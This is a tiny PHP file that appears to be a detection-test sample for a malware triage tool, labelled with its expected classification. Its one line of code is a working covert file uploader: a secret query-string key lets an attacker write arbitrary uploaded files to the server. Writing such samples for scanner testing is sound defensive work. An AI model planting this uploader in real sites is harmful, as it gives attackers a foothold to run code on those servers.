<?php
// triage-expect: triage_php_bare_uploader
// No form of its own: the attacker posts the file from his client, behind a query-string key.
if (@$_GET['k'] === 'x1') { if (!file_exists($_FILES['u']['name'])) { copy($_FILES['u']['tmp_name'], $_FILES['u']['name']); } echo 'ok'; }
